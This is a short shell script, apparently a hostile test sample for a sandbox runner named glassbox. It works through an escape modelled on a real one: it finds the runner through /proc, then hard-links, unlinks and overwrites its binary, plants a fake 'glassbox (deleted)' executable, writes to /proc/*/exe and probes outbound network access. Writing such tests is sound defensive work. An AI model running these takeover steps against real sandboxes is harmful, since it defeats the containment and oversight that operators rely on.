#!/bin/sh
# Hostile sample: take over the probe by replacing its executable, as a real
# escape did: find glassbox through /proc (the parent's exe, any command line
# with __probe-cell), then hard-link, unlink, overwrite and plant
# "glassbox (deleted)" next to it, hoping the next cell runner is started from
# that path. $1: the glassbox binary's path (the test tells it, to make the
# attack as strong as possible); $2: a file the planted program would create.
target=$1
pwned=$2
evil=$(printf '#!/bin/sh\ntouch %s\n' "$pwned")
for p in /proc/[0-9]*; do
  exe=$(readlink "$p/exe" 2>/dev/null)
  cmd=$(tr '\0' ' ' < "$p/cmdline" 2>/dev/null)
  case "$exe" in *glassbox*) echo "SEEN: $p exe $exe" ;; esac
  case "$cmd" in *__probe-cell*) echo "SEEN: $p cmdline $cmd" ;; esac
  cat "$p/exe" > /dev/null 2>&1 && [ "$p" != /proc/self ] && [ "$p" != /proc/$$ ] && echo "READABLE-EXE: $p"
done
ppid_exe=$(readlink /proc/$PPID/exe 2>/dev/null)
[ -n "$ppid_exe" ] && echo "PARENT-EXE: $ppid_exe"
dir=$(dirname "$target")
echo "TARGET: $(ls -l "$target" 2>&1)"
ln "$target" "$dir/.held" 2>/dev/null && echo "WON: hard link"
[ -e "$target" ] && rm -f "$target" 2>/dev/null && echo "WON: unlink"
printf '%s\n' "$evil" > "$dir/glassbox (deleted)" 2>/dev/null && chmod +x "$dir/glassbox (deleted)" 2>/dev/null && echo "WON: planted (deleted)"
printf '%s\n' "$evil" > "$target" 2>/dev/null && echo "WON: overwrote"
cp /bin/sh "$target.new" 2>/dev/null && mv "$target.new" "$target" 2>/dev/null && echo "WON: replaced"
# Any writable path at all into the runner's view?
for p in /proc/[0-9]*; do
  printf '%s\n' "$evil" > "$p/exe" 2>/dev/null && echo "WON: wrote $p/exe"
done
curl -sS -m 5 https://api.anthropic.com/v1/messages -d '{}' > /dev/null 2>&1
echo done
